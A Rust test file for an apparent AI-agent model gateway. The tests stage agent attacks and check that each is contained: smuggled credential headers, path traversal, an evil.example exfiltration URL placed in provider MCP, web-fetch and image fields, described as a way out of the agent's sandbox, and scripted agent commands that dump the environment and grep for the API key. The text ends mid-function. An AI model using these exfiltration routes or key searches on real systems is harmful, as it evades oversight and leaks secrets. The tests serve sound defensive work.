//! Attacks on the model gateway (issue 8, item 3), each performed and shown contained.
//!
//! The first tests run the gateway in-process against a recording upstream, as an agent holding a job
//! token would use it: wrong and revoked tokens, credentials and headers smuggled upstream, routes the
//! gateway does not serve, a limit spent, and a stream held open. The others run the real service with the
//! real Codex CLI and Claude Code (tests/agent-clis) against the scripted model server: the agent looks for
//! the key and does not find it, a budget runs out mid-run, a repository's daily budget holds across jobs
//! and a restart.

mod common;

use std::pin::Pin;
use std::sync::{Arc, Mutex};
use std::task::{Context, Poll};
use std::time::{Duration, Instant};

use axum::Router;
use axum::body::{Body, Bytes};
use axum::extract::{Request, State};
use axum::http::StatusCode;
use axum::response::Response;
use common::gateway::open;
use common::model_server::{ChatReply, ModelServer, Step};
use common::{Auth, Spine, path_with_agent_clis};
use nightshift::config::Config;
use nightshift::gateway::Gateway;
use nightshift::store::JobState;
use serde_json::{Value, json};
use tokio::sync::{Semaphore, mpsc};

const REAL_KEY: &str = "sk-real-gateway-secret";
/// A pattern that finds the key without containing it, for the agent's own search.
const KEY_PATTERN: &str = "sk-real-gateway-[s]ecret";

/// What the upstream model saw of one request.
#[derive(Clone, Debug)]
struct Seen {
    method: String,
    uri: String,
    headers: Vec<(String, String)>,
}

impl Seen {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// A recording upstream whose answers, when gated, stop after their first event until `release` has a permit
/// for them.
#[derive(Clone)]
struct Upstream {
    seen: Arc<Mutex<Vec<Seen>>>,
    /// Each permit lets one gated answer finish.
    release: Arc<Semaphore>,
    gated: Arc<Mutex<bool>>,
    /// Text deltas sent between the first event and the last.
    deltas: Arc<Mutex<usize>>,
    /// The answer ends after its deltas, without its last event (which carries the usage).
    cut: Arc<Mutex<bool>>,
}

struct Chunks(mpsc::Receiver<Result<Bytes, std::io::Error>>);

impl futures_core::Stream for Chunks {
    type Item = Result<Bytes, std::io::Error>;
    fn poll_next(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<Option<Self::Item>> {
        self.0.poll_recv(cx)
    }
}

const FIRST_EVENT: &str = "event: response.created\ndata: {\"type\":\"response.created\",\"response\":{\"id\":\"r1\"}}\n\n";

const DELTA_EVENT: &str = "event: response.output_text.delta\ndata: {\"type\":\"response.output_text.delta\",\"delta\":\"a few words of the answer\"}\n\n";

fn completed_event(input: u64, output: u64) -> String {
    format!(
        "event: response.completed\ndata: {}\n\n",
        json!({"type": "response.completed", "response": {"id": "r1", "model": "gpt-5.5",
               "usage": {"input_tokens": input, "output_tokens": output}}})
    )
}

impl Default for Upstream {
    fn default() -> Upstream {
        Upstream {
            seen: Default::default(),
            release: Arc::new(Semaphore::new(0)),
            gated: Default::default(),
            deltas: Default::default(),
            cut: Default::default(),
        }
    }
}

async fn upstream_handler(State(up): State<Upstream>, request: Request) -> Response {
    up.seen.lock().unwrap().push(Seen {
        method: request.method().to_string(),
        uri: request.uri().to_string(),
        headers: request
            .headers()
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or_default().to_owned()))
            .collect(),
    });
    let gated = *up.gated.lock().unwrap();
    let deltas = *up.deltas.lock().unwrap();
    let cut = *up.cut.lock().unwrap();
    let (tx, rx) = mpsc::channel(4);
    tokio::spawn(async move {
        tx.send(Ok(Bytes::from_static(FIRST_EVENT.as_bytes())))
            .await
            .unwrap();
        if gated {
            up.release.acquire().await.unwrap().forget();
        }
        for _ in 0..deltas {
            let _ = tx
                .send(Ok(Bytes::from_static(DELTA_EVENT.as_bytes())))
                .await;
        }
        if !cut {
            let _ = tx.send(Ok(Bytes::from(completed_event(1000, 50)))).await;
        }
    });
    let mut response = Response::new(Body::from_stream(Chunks(rx)));
    let headers = response.headers_mut();
    headers.insert("content-type", "text/event-stream".parse().unwrap());
    headers.insert("set-cookie", "upstream=1".parse().unwrap());
    headers.insert("x-request-id", "req-1".parse().unwrap());
    response
}

async fn start_upstream(up: Upstream) -> String {
    let app = Router::new().fallback(upstream_handler).with_state(up);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let listener = axum::serve::ListenerExt::tap_io(listener, |io| {
        let _ = io.set_nodelay(true);
    });
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

/// The gateway in-process, with codex profiles (`coder` with max_tokens, `free` without) and a claude profile
/// (`writer`) whose upstream is `upstream`.
async fn gateway(upstream: &str) -> (tempfile::TempDir, Config, Arc<Gateway>) {
    let agents = format!(
        "  coder: {{codex: {{model: gpt-5.5, base_url: '{upstream}/v1', api_key_env: REAL}}, max_tokens: 2000}}\n\
         \x20 writer: {{claude: {{base_url: '{upstream}', api_key_env: REAL}}}}\n\
         \x20 free: {{codex: {{model: gpt-5.5, base_url: '{upstream}/v1', api_key_env: REAL}}}}\n\
         \x20 fetcher: {{command: ['true'], egress: [localhost, '*.allowed.test']}}\n"
    );
    common::gateway::start(&agents, REAL_KEY).await
}

fn client() -> reqwest::Client {
    reqwest::Client::new()
}

fn url(gateway: &Gateway, path: &str) -> String {
    format!("http://{}{path}", gateway.tcp_addr())
}

async fn post(gateway: &Gateway, path: &str, token: Option<&str>) -> (u16, Value) {
    let mut request = client()
        .post(url(gateway, path))
        .json(&json!({"model": "gpt-5.5", "stream": true, "input": "hi"}));
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    let response = request.send().await.unwrap();
    let status = response.status().as_u16();
    let text = response.text().await.unwrap();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

/// `body` sent to `/v1/responses` with `token`, its answer not read yet.
async fn responses(gateway: &Gateway, token: &str, body: &Value) -> reqwest::Response {
    client()
        .post(url(gateway, "/v1/responses"))
        .bearer_auth(token)
        .json(body)
        .send()
        .await
        .unwrap()
}

/// A streamed model request as an agent sends it, its answer not read yet.
async fn stream(gateway: &Gateway, token: &str) -> reqwest::Response {
    client()
        .post(url(gateway, "/v1/responses"))
        .bearer_auth(token)
        .json(&json!({"model": "gpt-5.5", "stream": true}))
        .send()
        .await
        .unwrap()
}

#[tokio::test]
async fn a_wrong_missing_or_revoked_token_is_refused_and_nothing_reaches_the_model() {
    let up = Upstream::default();
    let (_dir, config, gateway) = gateway(&start_upstream(up.clone()).await).await;
    let access = open(&gateway, &config, "coder", 1).await;

    let (status, body) = post(&gateway, "/v1/responses", None).await;
    assert_eq!(status, 401, "{body}");
    assert_eq!(
        body["error"]["type"], "invalid_api_key",
        "OpenAI's shape: {body}"
    );
    let forged = format!("{}0", access.token());
    let (status, _) = post(&gateway, "/v1/responses", Some(&forged)).await;
    assert_eq!(status, 401);
    // The real key is not a token either.
    let (status, _) = post(&gateway, "/v1/responses", Some(REAL_KEY)).await;
    assert_eq!(status, 401);
    // An Anthropic path answers in Anthropic's shape.
    let response = client()
        .post(url(&gateway, "/v1/messages"))
        .header("x-api-key", "guess")
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 401);
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["type"], "error");
    assert_eq!(body["error"]["type"], "authentication_error");
    assert!(up.seen.lock().unwrap().is_empty(), "nothing went upstream");

    // The token works while its job runs...
    let token = access.token().to_owned();
    let (status, body) = post(&gateway, "/v1/responses", Some(&token)).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(up.seen.lock().unwrap().len(), 1);
    // ...and not after: the job's end revokes it.
    drop(access);
    let (status, body) = post(&gateway, "/v1/responses", Some(&token)).await;
    assert_eq!(status, 401, "{body}");
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .starts_with("nightshift: this request has no valid job token"),
        "{body}"
    );
    assert_eq!(
        up.seen.lock().unwrap().len(),
        1,
        "the revoked token reached nothing"
    );
}

#[tokio::test]
async fn the_agents_credentials_and_headers_stay_behind_and_the_real_key_goes_upstream() {
    let up = Upstream::default();
    let (_dir, config, gateway) = gateway(&start_upstream(up.clone()).await).await;
    let access = open(&gateway, &config, "coder", 1).await;
    let writer = open(&gateway, &config, "writer", 2).await;

    let response = client()
        .post(url(&gateway, "/v1/responses?trace=1"))
        .bearer_auth(access.token())
        .header("x-api-key", "sk-agent-chosen")
        .header("openai-organization", "org-attacker")
        .header("openai-project", "proj-attacker")
        .header("cookie", "session=stolen")
        .header("x-forwarded-for", "10.0.0.1")
        .header("openai-beta", "responses=v1")
        .json(&json!({"model": "gpt-5.5", "input": "hi"}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers().get("set-cookie"),
        None,
        "upstream cookies stay here"
    );
    assert_eq!(response.headers()["x-request-id"], "req-1");
    let _ = response.text().await.unwrap();
    // Claude Code's style: the token as x-api-key; the key goes upstream the same way.
    let response = client()
        .post(url(&gateway, "/v1/messages?beta=true"))
        .header("x-api-key", writer.token())
        .header("anthropic-version", "2023-06-01")
        .header("authorization", format!("Bearer {}", writer.token()))
        .body("{\"model\": \"claude\"}")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let _ = response.text().await.unwrap();

    let seen = up.seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 2, "{seen:#?}");
    let codex = &seen[0];
    assert_eq!(
        (codex.method.as_str(), codex.uri.as_str()),
        ("POST", "/v1/responses?trace=1")
    );
    assert_eq!(
        codex.header("authorization"),
        Some(&*format!("Bearer {REAL_KEY}"))
    );
    for dropped in [
        "x-api-key",
        "openai-organization",
        "openai-project",
        "cookie",
        "x-forwarded-for",
    ] {
        assert_eq!(
            codex.header(dropped),
            None,
            "{dropped} was forwarded: {codex:#?}"
        );
    }
    assert_eq!(
        codex.header("openai-beta"),
        Some("responses=v1"),
        "protocol headers pass"
    );
    let claude = &seen[1];
    assert_eq!(claude.uri, "/v1/messages?beta=true");
    assert_eq!(claude.header("x-api-key"), Some(REAL_KEY));
    assert_eq!(claude.header("authorization"), None);
    assert_eq!(claude.header("anthropic-version"), Some("2023-06-01"));
    for s in &seen {
        assert!(
            !s.headers.iter().any(|(_, v)| v.contains("nsjob-")),
            "a job token went upstream: {s:#?}"
        );
    }
}

#[tokio::test]
async fn only_the_model_routes_of_the_jobs_own_provider_are_served() {
    let up = Upstream::default();
    let (_dir, config, gateway) = gateway(&start_upstream(up.clone()).await).await;
    let access = open(&gateway, &config, "coder", 1).await;
    let token = access.token();
    for (method, path) in [
        ("GET", "/v1/models"),
        ("POST", "/v1/files"),
        ("POST", "/v1/embeddings"),
        ("GET", "/v1/responses"),
        ("POST", "/v1/responses/../../admin"),
        ("POST", "/v1/responses/r1/cancel"),
        ("POST", "/v1/messages"),
        ("POST", "//evil.example/v1/responses"),
    ] {
        let response = client()
            .request(method.parse().unwrap(), url(&gateway, path))
            .bearer_auth(token)
            .body("{}")
            .send()
            .await
            .unwrap();
        let status = response.status();
        let body = response.text().await.unwrap();
        assert!(
            status == StatusCode::NOT_FOUND || status == StatusCode::BAD_REQUEST,
            "{method} {path}: {status} {body}"
        );
        if status == StatusCode::NOT_FOUND {
            assert!(body.contains("the model gateway does not serve"), "{body}");
        }
    }
    // Claude Code's warm-up is answered without a token and without going upstream.
    let head = client().head(url(&gateway, "/")).send().await.unwrap();
    assert_eq!(head.status(), 200);
    assert!(
        up.seen.lock().unwrap().is_empty(),
        "{:#?}",
        up.seen.lock().unwrap()
    );
}

#[tokio::test]
async fn a_streamed_answer_passes_through_as_it_comes_and_is_metered_when_it_ends() {
    let up = Upstream::default();
    *up.gated.lock().unwrap() = true;
    let (_dir, config, gateway) = gateway(&start_upstream(up.clone()).await).await;
    let access = open(&gateway, &config, "coder", 1).await;
    let mut response = stream(&gateway, access.token()).await;
    assert_eq!(response.headers()["content-type"], "text/event-stream");
    // The first event arrives while the upstream holds back the rest: nothing is buffered.
    let mut received = Vec::new();
    while received.len() < FIRST_EVENT.len() {
        let chunk = tokio::time::timeout(Duration::from_secs(10), response.chunk())
            .await
            .expect("the first event came through before the answer ended")
            .unwrap()
            .unwrap();
        received.extend_from_slice(&chunk);
    }
    assert_eq!(received, FIRST_EVENT.as_bytes());
    // While this stream is open, the gateway still answers others.
    let other = open(&gateway, &config, "coder", 2).await;
    *up.gated.lock().unwrap() = false;
    let (status, _) = post(&gateway, "/v1/responses", Some(other.token())).await;
    assert_eq!(status, 200);
    assert_eq!(access.usage().turns, None, "nothing metered before the end");

    up.release.add_permits(1);
    while let Some(chunk) = response.chunk().await.unwrap() {
        received.extend_from_slice(&chunk);
    }
    let whole = format!("{FIRST_EVENT}{}", completed_event(1000, 50));
    assert_eq!(String::from_utf8(received).unwrap(), whole, "byte for byte");
    let usage = access.settle().await;
    assert_eq!(
        (usage.turns, usage.input_tokens, usage.output_tokens),
        (Some(1), Some(1000), Some(50))
    );
    assert_eq!(usage.model.as_deref(), Some("gpt-5.5"));
    let cost = usage.cost_usd.unwrap();
    assert!(
        (cost - (1000.0 * 1.0 + 50.0 * 2.0) / 1e6).abs() < 1e-12,
        "{cost}"
    );
}

#[tokio::test]
async fn a_job_past_its_token_limit_is_refused_in_the_providers_shape() {
    let up = Upstream::default();
    let (_dir, config, gateway) = gateway(&start_upstream(up.clone()).await).await;
    let access = open(&gateway, &config, "coder", 1).await;
    // max_tokens 2000; each answer spends 1050.
    for _ in 0..2 {
        let (status, _) = post(&gateway, "/v1/responses", Some(access.token())).await;
        assert_eq!(status, 200);
        access.settle().await;
    }
    assert_eq!(access.refusal(), None);
    let (status, body) = post(&gateway, "/v1/responses", Some(access.token())).await;
    assert_eq!(status, 402, "{body}");
    assert_eq!(body["error"]["code"], "insufficient_quota");
    assert_eq!(
        body["error"]["message"],
        "nightshift: this job's limit of 2000 tokens is spent (2100 so far)"
    );
    assert_eq!(
        access.refusal().as_deref(),
        Some("this job's limit of 2000 tokens is spent (2100 so far)")
    );
    assert_eq!(
        access.failure().as_deref(),
        Some("budget reached: this job's limit of 2000 tokens is spent (2100 so far)")
    );
    assert_eq!(
        up.seen.lock().unwrap().len(),
        2,
        "the refused request went nowhere"
    );
    // Another job is not held by this one's limit.
    let other = open(&gateway, &config, "coder", 2).await;
    let (status, _) = post(&gateway, "/v1/responses", Some(other.token())).await;
    assert_eq!(status, 200);
}

/// An agent reads the text it wants and closes the connection before the answer's last event, the one that
/// carries the usage. The provider generated and billed all of it; before, the gateway stopped reading and
/// counted nothing, so every limit and budget could be spent past without end. The answer is now read to
/// its end and metered.
#[tokio::test]
async fn an_answer_the_agent_stops_reading_is_still_metered() {
    let up = Upstream::default();
    *up.gated.lock().unwrap() = true;
    // Enough text after the agent left that writing it to the closed connection fails before the end.
    *up.deltas.lock().unwrap() = 5_000;
    let (_dir, config, gateway) = gateway(&start_upstream(up.clone()).await).await;
    let access = open(&gateway, &config, "coder", 1).await;
    let mut response = stream(&gateway, access.token()).await;
    let first = response.chunk().await.unwrap().unwrap();
    assert!(!first.is_empty());
    drop(response);
    // The rest comes upstream after the agent left.
    up.release.add_permits(1);
    let usage = access.settle().await;
    assert_eq!(
        (usage.turns, usage.input_tokens, usage.output_tokens),
        (Some(1), Some(1000), Some(50)),
        "the abandoned answer is counted"
    );
}

/// An answer cut short before its last event (which carries the usage), or from a provider that never
/// reports any, may still have been billed: it is charged its request's bytes as input and its output limit,
/// so a job cannot spend past its limits by having its answers cut.
#[tokio::test]
async fn an_answer_that_reports_no_usage_is_charged_its_limit() {
    let up = Upstream::default();
    *up.cut.lock().unwrap() = true;
    *up.deltas.lock().unwrap() = 3;
    let (_dir, config, gateway) = gateway(&start_upstream(up.clone()).await).await;
    let access = open(&gateway, &config, "free", 1).await;
    let body = json!({"model": "gpt-5.5", "stream": true, "input": "hi", "max_output_tokens": 700});
    let size = serde_json::to_vec(&body).unwrap().len() as u64;
    let response = responses(&gateway, access.token(), &body).await;
    assert_eq!(response.status(), 200);
    let text = response.text().await.unwrap();
    assert!(!text.contains("response.completed"), "{text}");
    let usage = access.settle().await;
    assert_eq!(
        (usage.turns, usage.input_tokens, usage.output_tokens),
        (Some(1), Some(size), Some(700))
    );
    // With no limit in the request, the default one.
    let response = responses(
        &gateway,
        access.token(),
        &json!({"model": "gpt-5.5", "stream": true, "input": "hi"}),
    )
    .await;
    response.text().await.unwrap();
    let usage = access.settle().await;
    assert_eq!(
        usage.output_tokens,
        Some(700 + nightshift::gateway::UNREPORTED_OUTPUT)
    );
    // A job with a token limit is refused once the charges pass it.
    let limited = open(&gateway, &config, "coder", 2).await;
    for expected in [200, 402] {
        let body =
            json!({"model": "gpt-5.5", "stream": true, "input": "hi", "max_output_tokens": 5000});
        let response = responses(&gateway, limited.token(), &body).await;
        assert_eq!(response.status(), expected);
        response.text().await.unwrap();
        limited.settle().await;
    }
}

/// The providers run some tools on their own servers: OpenAI's `mcp` tool and web search, Anthropic's MCP
/// connector and web fetch. An agent that asks for one has the provider's servers connect to a URL of its
/// choosing, carrying what it read, whatever the job's network rules: a way out of the box. And OpenAI's
/// background mode answers at once, with no usage, and spends afterwards, past every limit. Each is refused
/// before anything goes upstream, and the job fails with the reason; the agents' own tools pass.
#[tokio::test]
async fn the_providers_server_side_tools_and_background_runs_are_refused() {
    let up = Upstream::default();
    let (_dir, config, gateway) = gateway(&start_upstream(up.clone()).await).await;
    let send = |path: &'static str, token: String, body: Value| {
        let gateway = gateway.clone();
        async move {
            let response = client()
                .post(url(&gateway, path))
                .bearer_auth(&token)
                .header("x-api-key", &token)
                .json(&body)
                .send()
                .await
                .unwrap();
            let status = response.status().as_u16();
            (status, response.text().await.unwrap())
        }
    };
    let exfil = "https://evil.example/m?d=c2VjcmV0";
    let refused: Vec<(&str, &str, Value)> = vec![
        (
            "coder",
            "/v1/responses",
            json!({"model": "gpt-5.5", "input": "hi",
            "tools": [{"type": "function", "name": "f"},
                      {"type": "mcp", "server_label": "x", "server_url": exfil, "require_approval": "never"}]}),
        ),
        (
            "coder",
            "/v1/responses",
            json!({"model": "gpt-5.5", "input": "hi", "tools": [{"type": "web_search"}]}),
        ),
        (
            "coder",
            "/v1/responses",
            json!({"model": "gpt-5.5", "input": "hi", "tools": [{"type": "namespace",
            "name": "n", "tools": [{"type": "function", "name": "f"}, {"type": "mcp", "server_url": exfil}]}]}),
        ),
        (
            "coder",
            "/v1/responses",
            json!({"model": "gpt-5.5", "input": "hi", "background": true,
            "max_output_tokens": 128000}),
        ),
        (
            "coder",
            "/v1/chat/completions",
            json!({"model": "gpt-5.5", "messages": [],
            "web_search_options": {}}),
        ),
        (
            "writer",
            "/v1/messages",
            json!({"model": "claude", "messages": [],
            "mcp_servers": [{"type": "url", "url": exfil, "name": "x"}]}),
        ),
        (
            "writer",
            "/v1/messages",
            json!({"model": "claude", "messages": [],
            "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
        ),
        // Content the provider fetches by URL, or from its own file store (docs/security-adv4.md).
        (
            "coder",
            "/v1/responses",
            json!({"model": "gpt-5.5", "input": [{"role": "user", "content": [
                {"type": "input_image", "image_url": exfil}]}]}),
        ),
        (
            "coder",
            "/v1/chat/completions",
            json!({"model": "gpt-5.5", "messages": [{"role": "user", "content": [
                {"type": "image_url", "image_url": {"url": exfil}}]}]}),
        ),
        (
            "writer",
            "/v1/messages",
            json!({"model": "claude", "messages": [{"role": "user", "content": [
                {"type": "document", "source": {"type": "url", "url": exfil}}]}]}),
        ),
        (
            "coder",
            "/v1/responses",
            json!({"model": "gpt-5.5", "input": [{"role": "user", "content": [
                {"type": "input_file", "file_id": "file-of-another-team"}]}]}),
        ),
        // A model that searches the web on every request.
        (
            "coder",
            "/v1/chat/completions",
            json!({"model": "gpt-4o-search-preview", "messages": []}),
        ),
    ];
    for (n, (profile, path, body)) in refused.into_iter().enumerate() {
        let access = open(&gateway, &config, profile, 10 + n as i64).await;
        let (status, text) = send(path, access.token().to_owned(), body.clone()).await;
        assert_eq!(status, 400, "{body}: {text}");
        assert!(text.contains("not allowed"), "{text}");
        assert!(
            access
                .failure()
                .is_some_and(|f| f.starts_with("the model gateway refused a request: ")),
            "the job fails with the reason: {body}: {:?}",
            access.failure()
        );
    }
    // Counting a request's tokens with the provider's MCP connector has it connect all the same: refused,
    // though counting is no model turn (the job goes on).
    let access = open(&gateway, &config, "writer", 29).await;
    let (status, text) = send(
        "/v1/messages/count_tokens",
        access.token().to_owned(),
        json!({"model": "claude", "messages": [],
        "mcp_servers": [{"type": "url", "url": exfil, "name": "x"}]}),
    )
    .await;
    assert_eq!(status, 400, "{text}");
    assert!(text.contains("not allowed"), "{text}");
    assert!(access.failure().is_none());
    assert!(
        up.seen.lock().unwrap().is_empty(),
        "nothing went upstream: {:?}",
        up.seen.lock().unwrap()
    );
    // The agents' own tools: a function, Codex's free-form `apply_patch`, Claude Code's tools (no type) and
    // Anthropic's client-side bash and editor.
    let access = open(&gateway, &config, "free", 30).await;
    let (status, text) = send(
        "/v1/responses",
        access.token().to_owned(),
        json!({"model": "gpt-5.5", "tools": [
            {"type": "function", "name": "exec_command"}, {"type": "custom", "name": "apply_patch"},
            {"type": "tool_search"}, {"type": "namespace", "name": "n", "tools": [{"type": "function", "name": "g"}]}],
            "input": [{"role": "user", "content": [
                {"type": "input_image", "image_url": "data:image/png;base64,iVBORw0KGgo="}]}]}),
    )
    .await;
    assert_eq!(status, 200, "{text}");
    let writer = open(&gateway, &config, "writer", 31).await;
    let (status, text) = send(
        "/v1/messages",
        writer.token().to_owned(),
        json!({"model": "claude", "messages": [], "tools": [
            {"name": "Bash", "input_schema": {}}, {"type": "bash_20250124", "name": "bash"},
            {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"}]}),
    )
    .await;
    assert_eq!(status, 200, "{text}");
    assert_eq!(up.seen.lock().unwrap().len(), 2);
}

/// What the gateway adds to a streamed answer: time to first byte and to the end, direct and through the
/// gateway. Run with `cargo test --test attack_gateway -- --ignored --nocapture measure`.
#[tokio::test]
#[ignore = "a measurement, not a check"]
async fn measure_what_the_gateway_adds_to_a_streamed_answer() {
    let up = Upstream::default();
    *up.deltas.lock().unwrap() = 100;
    let upstream = start_upstream(up.clone()).await;
    let (_dir, config, gateway) = gateway(&upstream).await;
    let access = open(&gateway, &config, "free", 1).await;
    let client = client();
    let token = access.token().to_owned();
    let once = |url: String, token: Option<String>| {
        let client = client.clone();
        async move {
            let started = Instant::now();
            let mut request = client
                .post(&url)
                .body("{\"model\":\"gpt-5.5\",\"stream\":true}");
            if let Some(t) = &token {
                request = request.bearer_auth(t);
            }
            let mut response = request.send().await.unwrap();
            let mut bytes = response.chunk().await.unwrap().unwrap().len();
            let first = started.elapsed();
            while let Some(chunk) = response.chunk().await.unwrap() {
                bytes += chunk.len();
            }
            (first, started.elapsed(), bytes)
        }
    };
    // Interleaved, so both see the same machine (shared cores) at the same moments.
    let (mut direct_first, mut direct_total, mut gw_first, mut gw_total) =
        (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    for _ in 0..400 {
        let (f, t, n) = once(format!("{upstream}/v1/responses"), None).await;
        let (gf, gt, gn) = once(url(&gateway, "/v1/responses"), Some(token.clone())).await;
        assert_eq!(n, gn, "the same answer both ways");
        direct_first.push(f);
        direct_total.push(t);
        gw_first.push(gf);
        gw_total.push(gt);
    }
    let median = |v: &mut Vec<Duration>| {
        v.sort();
        v[v.len() / 2]
    };
    let direct = (median(&mut direct_first), median(&mut direct_total));
    let through = (median(&mut gw_first), median(&mut gw_total));
    let ratio = |a: Duration, b: Duration| a.as_secs_f64() / b.as_secs_f64();
    println!(
        "answer: {} events; medians of 400 interleaved runs\ndirect: first byte {:?}, total {:?}\n\
         gateway: first byte {:?}, total {:?}\nratio: first byte {:.2}x, total {:.2}x; added {:?} to the first \
         byte, {:?} to the total",
        102,
        direct.0,
        direct.1,
        through.0,
        through.1,
        ratio(through.0, direct.0),
        ratio(through.1, direct.1),
        through.0.saturating_sub(direct.0),
        through.1.saturating_sub(direct.1)
    );
}

// ---- The real service and the real CLIs ----

fn env(path: &str) -> Vec<(&'static str, String)> {
    vec![
        ("PATH", path.to_owned()),
        ("TEST_REAL_KEY", REAL_KEY.to_owned()),
    ]
}

async fn start(spine: &mut Spine) {
    let path = path_with_agent_clis();
    let env = env(&path);
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    spine.start_with_env(&env).await;
}

/// What the agent is asked to run: its whole environment, its CLI's config, and a search for the key in
/// every file of its job (home, temporary folder, output, the repository's context) and its worktree.
fn look_for_the_key(config_file: &str) -> String {
    format!(
        "env; echo ---; cat \"{config_file}\"; echo ---; grep -rIl '{KEY_PATTERN}' \"$HOME/..\" . ; echo grep-exit=$?"
    )
}

fn assert_no_key_and_the_search_ran(body: &str, token_var: &str) {
    assert!(
        !body.contains(REAL_KEY),
        "the real key reached the agent: {body}"
    );
    assert!(
        body.contains(&format!("{token_var}=nsjob-")),
        "env ran: {body}"
    );
    assert!(
        body.contains("grep-exit=1"),
        "the search ran and found nothing: {body}"
    );
}

#[tokio::test]
async fn codex_reaches_its_model_only_through_the_gateway_and_never_holds_the_key() {
    let model = ModelServer::agent(vec![
        Step::Exec(look_for_the_key("$CODEX_HOME/config.toml")),
        Step::Text("Looked around.".into()),
    ])
    .await;
    let trigger = (
        "look.yml",
        "on:\n  issues:\n    types: [opened]\nagent: fixer\nprompt: Look.\n",
    );
    let mut spine = Spine::new(Auth::Token, &[trigger]).await;
    spine.add_agents(&format!(
        "  fixer: {{codex: {{model: gpt-5.5, base_url: \"{}/v1\", api_key_env: TEST_REAL_KEY}}, timeout: 120s}}\n",
        model.url
    ));
    start(&mut spine).await;
    spine
        .deliver_example("issues", "d1", "issues/opened.json")
        .await;
    let job = spine.wait_for_finished_jobs(1).await.remove(0);
    let log = spine.job_log(job.id).await;
    assert_eq!(job.state, JobState::Succeeded, "{:?}\n{log:#?}", job.error);

    let requests = model.requests();
    assert_eq!(requests.len(), 2, "{requests:#?}");
    for request in &requests {
        assert_eq!(
            request.header("authorization"),
            Some(&*format!("Bearer {REAL_KEY}")),
            "the scripted server receives the real key"
        );
    }
    // The second request carries what the agent saw.
    let seen = requests[1].body.to_string();
    assert_no_key_and_the_search_ran(&seen, "NIGHTSHIFT_MODEL_TOKEN");
    assert!(
        seen.contains("base_url = \\\"http://127.0.0.1:4180/v1\\\""),
        "Codex's config points at the gateway: {seen}"
    );
    assert!(
        !seen.contains(&model.url),
        "the agent does not even learn the upstream: {seen}"
    );
    let usage = job.usage.expect("metered");
    assert_eq!(
        (usage.turns, usage.input_tokens),
        (Some(2), Some(2000)),
        "{usage:?}"
    );
    // No price configured: tokens counted, cost unknown, said once in the job log.
    assert_eq!(usage.cost_usd, None);
    let unpriced = log
        .iter()
        .filter(|l| {
            l.line
                .starts_with("gateway: model `gpt-5.5` has no price in gateway.prices")
        })
        .count();
    assert_eq!(unpriced, 1, "{log:#?}");
    // The job's token died with the job.
    let token = seen.split("NIGHTSHIFT_MODEL_TOKEN=").nth(1).unwrap();
    let token: String = token
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
        .collect();
    let line = spine.server.as_ref().unwrap().log();
    let port = line
        .split("model gateway listening port=")
        .nth(1)
        .and_then(|s| s.split_whitespace().next())
        .expect("the gateway's port is logged");
    let response = reqwest::Client::new()
        .post(format!("http://127.0.0.1:{port}/v1/responses"))
        .bearer_auth(&token)
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_eq!(
        response.status(),
        401,
        "the ended job's token {token} is revoked"
    );
    assert_eq!(model.requests().len(), 2);
    spine.assert_no_unexpected_calls();
}

#[tokio::test]
async fn claude_code_reaches_its_model_only_through_the_gateway_and_never_holds_the_key() {
    let model = ModelServer::agent(vec![
        Step::Tool {
            name: "Bash".into(),
            input: json!({"command": look_for_the_key("$HOME/.claude.json")}),
        },
        Step::Text("Looked around.".into()),
    ])
    .await;
    let trigger = (
        "look.yml",
        "on:\n  issues:\n    types: [opened]\nagent: reviewer\nprompt: Look.\n",
    );
    let mut spine = Spine::new(Auth::Token, &[trigger]).await;
    spine.add_agents(&format!(
        "  reviewer: {{claude: {{model: claude-sonnet-4-5, base_url: \"{}\", api_key_env: TEST_REAL_KEY, allowed_tools: [Bash]}}, timeout: 120s}}\n",
        model.url
    ));
    start(&mut spine).await;
    spine
        .deliver_example("issues", "d1", "issues/opened.json")
        .await;
    let job = spine.wait_for_finished_jobs(1).await.remove(0);
    let log = spine.job_log(job.id).await;
    assert_eq!(job.state, JobState::Succeeded, "{:?}\n{log:#?}", job.error);

    let requests: Vec<_> = model
        .requests()
        .into_iter()
        .filter(|r| r.path == "/v1/messages")
        .collect();
    assert!(requests.len() >= 2, "{requests:#?}");
    for request in &requests {
        assert_eq!(request.header("x-api-key"), Some(REAL_KEY));
    }
    let seen = requests.last().unwrap().body.to_string();
    assert_no_key_and_the_search_ran(&seen, "ANTHROPIC_API_KEY");
    assert!(
        seen.contains("ANTHROPIC_BASE_URL=http://127.0.0.1:4180"),
        "{seen}"
    );
    spine.assert_no_unexpected_calls();
}

#[tokio::test]
async fn a_job_whose_budget_is_spent_mid_run_is_refused_and_fails_with_the_reason() {
    // Each Codex turn spends 1000 input and 50 output tokens: $0.50 at these prices, over the $0.40 budget.
    // Unboxed (`sandbox: none`), so Codex reaches the gateway on its loopback port: the limits hold there too.
    let model = ModelServer::agent(vec![
        Step::Exec("echo first turn".into()),
        Step::Text("never reached".into()),
    ])
    .await;
    let trigger = (
        "fix.yml",
        "on:\n  issues:\n    types: [opened]\nagent: fixer\nprompt: Fix it.\n",
    );
    let mut spine = Spine::new(Auth::Token, &[trigger]).await;
    spine.add_agents(&format!(
